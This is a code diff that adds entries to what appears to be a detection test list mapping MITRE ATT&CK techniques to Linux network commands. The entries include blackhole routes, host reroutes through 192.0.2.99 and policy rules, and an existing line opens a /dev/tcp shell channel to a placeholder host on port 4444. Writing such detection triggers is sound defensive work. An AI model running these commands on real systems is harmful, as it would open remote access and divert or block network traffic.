@@ -104,6 +104,13 @@ TRIGGERS = [
     ("T1040", "all frames", "ip link set b0 promisc on", "net.promiscuous", "b0"),
     ("T1572", "tunnel", "ip tuntap add dev tun7 mode tun", "net.device", "tun7"),
     ("T1572", "another tunnel", "ip tuntap add dev tap8 mode tap", "net.device", "tap8"),
+    ("T1562.004", "route thrown away", "ip route add blackhole 203.0.113.77/32", "net.route", "203.0.113.77"),
+    ("T1562.004", "IPv6 route refused", "ip -6 route add unreachable 2001:db8:77::/48", "net.route", "2001:db8:77::"),
+    ("T1557", "host route", "ip route add 203.0.113.78/32 via 192.0.2.99", "net.route", "192.0.2.99"),
+    ("T1562.004", "route to the host itself", "ip route add local 203.0.113.79 dev lo", "net.route", "203.0.113.79"),
+    ("T1090", "policy rule", "ip rule add pref 100 from 10.0.0.0/8 lookup 77", "net.route", "rule 100"),
+    ("T1562.004", "policy rule that refuses", "ip -6 rule add pref 101 to 2001:db8::7 prohibit", "net.route", "IPv6 rule 101"),
+    ("T1557", "address on the loopback device", "ip addr add 203.0.113.80/32 dev lo", "net.route", "203.0.113.80"),
     ("T1071", "a shell talks out", bash("exec 3<>/dev/tcp/192.0.2.99/4444", 60), "net.peer", "4444"),
     ("T1090", "forwarding", "echo 1 > /proc/sys/net/ipv4/ip_forward", "kernel.setting", "ip_forward"),
     # -- mounts and the kernel
